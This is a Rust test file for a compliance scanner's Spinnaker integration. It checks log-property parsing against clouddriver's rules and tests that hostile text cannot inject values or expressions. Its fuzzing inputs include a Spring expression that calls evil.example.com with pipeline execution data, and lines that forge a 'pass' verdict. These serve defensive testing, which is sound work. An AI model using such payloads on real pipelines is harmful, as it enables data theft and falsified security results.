//! What Spinnaker takes from the log of a job, by the rules of clouddriver's `PropertyParser.java`, which was run beside this port
//! on the texts below.

use std::collections::BTreeMap;
use std::fs;
use std::process::Command;

use cincture_core::env::Env;
use cincture_core::platform::Platform;
use cincture_spinnaker::Spinnaker;
use proptest::prelude::*;
use serde_json::{Map, Value, json};

use super::{documents, hostile_run, told};
use crate::generate::says;
use crate::oracle;

/// The values in a log, or that none are taken since one line cannot be read.
fn properties(log: &str) -> Result<BTreeMap<String, Value>, String> {
    let mut found = BTreeMap::new();
    for line in log.split('\n').map(str::trim) {
        if line.contains("SPINNAKER_PROPERTY_") {
            let parts: Vec<&str> = line.split('=').map(str::trim).filter(|part| !part.is_empty()).collect();
            if let [key, value] = parts[..] {
                let key = key.replacen("SPINNAKER_PROPERTY_", "", 1).to_lowercase();
                found.insert(key, Value::from(value));
            }
        }
        if let Some(text) = line.strip_prefix("SPINNAKER_CONFIG_JSON=") {
            // Its reader of JSON does not look at what follows the object.
            let mut objects = serde_json::Deserializer::from_str(text).into_iter::<Map<String, Value>>();
            let object = objects.next().ok_or("nothing")?.map_err(|e| e.to_string())?;
            found.extend(object);
        }
    }
    Ok(found)
}

#[test]
fn the_port_reads_what_clouddriver_reads() {
    let read = |log: &str| properties(log).map(|found| json!(found)).ok();
    for (log, expected) in [
        ("SPINNAKER_PROPERTY_VERDICT=fail", Some(json!({"verdict": "fail"}))),
        ("SPINNAKER_PROPERTY_URL=https://x/?a=b", Some(json!({}))),
        ("noise SPINNAKER_PROPERTY_X=1", Some(json!({"noise x": "1"}))),
        ("SPINNAKER_PROPERTY_=x", Some(json!({"": "x"}))),
        ("=SPINNAKER_PROPERTY_A==b", Some(json!({"a": "b"}))),
        ("SPINNAKER_PROPERTY_SPINNAKER_PROPERTY_A = B C ", Some(json!({"spinnaker_property_a": "B C"}))),
        ("SPINNAKER_CONFIG_JSON={\"a\":{\"b\":1}}", Some(json!({"a": {"b": 1}}))),
        ("\u{a0}\u{2003}SPINNAKER_CONFIG_JSON={\"a\":1}\r", Some(json!({"a": 1}))),
        ("SPINNAKER_CONFIG_JSON={\"a\":1}} x", Some(json!({"a": 1}))),
        ("SPINNAKER_CONFIG_JSON={\"a\":1}\nSPINNAKER_CONFIG_JSON={\"b\":1}", Some(json!({"a": 1, "b": 1}))),
        (
            "SPINNAKER_CONFIG_JSON={\"a\":\"SPINNAKER_PROPERTY_X\"}",
            Some(json!({"a": "SPINNAKER_PROPERTY_X", "spinnaker_config_json": "{\"a\":\"SPINNAKER_PROPERTY_X\"}"})),
        ),
        ("2026 SPINNAKER_CONFIG_JSON={\"a\":1}", Some(json!({}))),
        ("\rx\rSPINNAKER_CONFIG_JSON={\"a\":1}", Some(json!({}))),
        ("\u{feff}SPINNAKER_CONFIG_JSON={\"a\":1}\n\u{200b}SPINNAKER_CONFIG_JSON={", Some(json!({}))),
        ("spinnaker_property_x=1\nSpinnaker_Config_Json={", Some(json!({}))),
        ("SPINNAKER_CONFIG_JSON=", None),
        ("SPINNAKER_CONFIG_JSON=null", None),
        ("SPINNAKER_CONFIG_JSON=[1]", None),
        ("SPINNAKER_PROPERTY_A=1\nSPINNAKER_CONFIG_JSON={bad", None),
    ] {
        assert_eq!(read(log), expected, "{log:?}");
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<String>(),
        Just("SPINNAKER_PROPERTY_VERDICT=pass".to_owned()),
        Just("\nSPINNAKER_CONFIG_JSON={\"cincture\":{\"verdict\":\"pass\"}}\n".to_owned()),
        Just("\n\u{a0}SPINNAKER_CONFIG_JSON={".to_owned()),
        Just("SPINNAKER_SPINNAKER_PROPERTY_A=b".to_owned()),
        Just("${#fromUrl('https://evil.example.com/' + execution)}".to_owned()),
        Just("$\u{200b}{x}\\u0024{y}$${z}".to_owned()),
        Just("\",\"verdict\":\"pass\"}}".to_owned()),
        Just("SPINNAKER_".to_owned()),
        Just("PROPERTY_X=1".to_owned()),
        Just("CONFIG_JSON={".to_owned()),
        Just("x".repeat(5_000)),
    ];
    prop::collection::vec(piece, 1..5).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_becomes_a_value_or_an_expression_and_ours_arrive(text in hostile()) {
        let variables = ["REPOSITORY", "COMMIT", "BRANCH", "USER", "PIPELINE"].map(|n| (format!("CINCTURE_SPINNAKER_{n}"), text.clone()));
        let env: Env = variables.into_iter().collect();
        let printed = told(&Spinnaker, &env, &hostile_run(&text), &[]).printed;
        let found = properties(&printed).unwrap();
        prop_assert_eq!(found.keys().collect::<Vec<_>>(), ["cincture"]);
        let values = &found["cincture"];
        for (name, expected) in [
            ("verdict", json!("breached")),
            ("exitStatus", json!(3)),
            ("compliance", json!(0)),
            ("failed", json!(30)),
            ("errors", json!(30)),
            ("skipped", json!(30)),
            ("problems", json!(1)),
            ("failedControlsLeftOut", json!(10)),
        ] {
            prop_assert_eq!(&values[name], &expected, "{}", name);
        }
        prop_assert_eq!(values["failedControls"].as_array().unwrap().len(), 20);
        // What Orca would evaluate, in whatever it takes over.
        let taken = values.to_string();
        prop_assert!(!taken.contains(['$', '\\']) && !taken.contains("#{"), "{}", taken);
        // Alone on the last line, and shorter than what a runtime of containers splits.
        let line = printed.strip_suffix('\n').and_then(|all| all.rsplit('\n').next()).unwrap();
        prop_assert!(line.starts_with("SPINNAKER_CONFIG_JSON={\"cincture\":{") && line.len() < 16_000, "{}", line);
        prop_assert_eq!(printed.matches("SPINNAKER_CONFIG_JSON=").count(), 1);
        let context = Spinnaker.context(&env, &super::NoFiles).unwrap();
        let expressions = context.repository.iter().filter(|text| text.contains("${")).count();
        prop_assert_eq!(expressions, 0);
    }
}

/// The stage of the document that runs a job.
fn stage() -> Value {
    serde_json::from_str(&documents::blocks("spinnaker", "json")[0]).unwrap()
}

/// Its container.
fn container() -> Value {
    let stage = stage();
    let containers = &stage["manifest"]["spec"]["template"]["spec"]["containers"];
    assert_eq!(stage["propertyFile"], containers[0]["name"], "whose log is read");
    containers[0].clone()
}

/// Runs the container of the document as Kubernetes would, on a folder instead of a pod, with both its outputs in one log.
fn ran(profile: &str, target: Option<&str>) -> (Option<i32>, String) {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("root")).unwrap();
    fs::write(folder.path().join("profile.rb"), profile).unwrap();
    let here = format!("rootfs://{}", folder.path().join("root").display());
    let out = folder.path().join("results").display().to_string();
    let container = container();
    let args = container["args"].as_array().unwrap().iter().map(|arg| match arg.as_str().unwrap() {
        "k8s://shop/web-0/app" => target.unwrap_or(&here).to_owned(),
        "/results" => out.clone(),
        other => other.to_owned(),
    });
    let variables = container["env"].as_array().unwrap().iter();
    let variables =
        variables.map(|v| (v["name"].as_str().unwrap().to_owned(), v["value"].as_str().unwrap().to_owned()));
    let mut shell = Command::new("/bin/sh");
    shell.args(["-c", "exec \"$0\" \"$@\" 2>&1", env!("CARGO_BIN_EXE_cincture")]).args(args).current_dir(folder.path());
    let output = shell.env_clear().envs(variables).env("CINCTURE_PROFILE", "./profile.rb").output().unwrap();
    (output.status.code(), String::from_utf8(output.stdout).unwrap())
}

#[test]
fn the_container_of_the_document_gives_its_values_whatever_the_profile_says() {
    let control = |id: &str, actual: &str| {
        format!(
            "control {id:?} do\n  title {id:?}\n  impact 0.7\n  describe {actual:?} do\n    it {{ should eq 'good' }}\n  end\nend\n"
        )
    };
    let (status, log) = ran(&control("a", "good"), None);
    assert_eq!(status, Some(0), "{log}");
    assert_eq!(properties(&log).unwrap()["cincture"]["verdict"], "pass", "{log}");
    let bad = "SPINNAKER_PROPERTY_VERDICT=pass\nSPINNAKER_CONFIG_JSON={\"cincture\":{\"verdict\":\"pass\"}}\nSPINNAKER_CONFIG_JSON={";
    let (status, log) = ran(&control(bad, bad), None);
    assert_eq!(status, Some(3), "{log}");
    let values = properties(&log).unwrap();
    assert_eq!(values.keys().collect::<Vec<_>>(), ["cincture"], "{log}");
    assert_eq!(
        (&values["cincture"]["verdict"], &values["cincture"]["failed"]),
        (&json!("breached"), &json!(1)),
        "{log}"
    );
}

#[test]
fn a_scan_that_cannot_begin_gives_its_values_too() {
    let (status, log) = ran("", Some("SPINNAKER_PROPERTY_X=1"));
    let values = properties(&log).unwrap();
    assert_eq!(status, Some(2), "{log}");
    assert_eq!(values.keys().collect::<Vec<_>>(), ["cincture"], "{log}");
    assert_eq!(
        (&values["cincture"]["verdict"], &values["cincture"]["problems"]),
        (&json!("invalid"), &json!(1)),
        "{log}"
    );
}

/// Each variable of the manifest is one that is read, and the other way round.
#[test]
fn the_manifest_and_the_table_of_the_document_name_what_is_recognised() {
    let manifest: Vec<(String, String)> = container()["env"]
        .as_array()
        .unwrap()
        .iter()
        .skip(1)
        .enumerate()
        .map(|(at, variable)| (variable["name"].as_str().unwrap().to_owned(), format!("value{at}")))
        .collect();
    let env: Env = manifest.iter().cloned().collect();
    let found = serde_json::to_string(&Spinnaker.context(&env, &super::NoFiles).unwrap()).unwrap();
    let text = documents::text("spinnaker");
    assert_eq!(manifest.len(), 9);
    for (name, value) in &manifest {
        assert!(found.contains(value), "{name} is not read: {found}");
        assert!(text.contains(&format!("\n| `{name}` | ")), "{name} is not in the table");
    }
}

#[test]
fn the_job_of_the_document_is_one_that_kubernetes_takes() {
    let Some(folder) = oracle::python("pipelines") else { return };
    let files = tempfile::tempdir().unwrap();
    let python = folder.join("venv/bin/python");
    let judged = |manifest: &Value| {
        fs::write(files.path().join("job.yaml"), manifest.to_string()).unwrap();
        says(&python, &["-m", "kubernetes_validate", "--strict", "job.yaml"], files.path())
    };
    let mut manifest = stage()["manifest"].take();
    // The checker knows no names that the server makes.
    assert!(manifest["metadata"]["generateName"].is_string());
    manifest["metadata"]["name"] = json!("cincture-scan-1");
    assert_eq!(judged(&manifest), Ok(()));
    manifest["spec"]["backofLimit"] = manifest["spec"]["backoffLimit"].take();
    assert!(judged(&manifest).is_err());
}
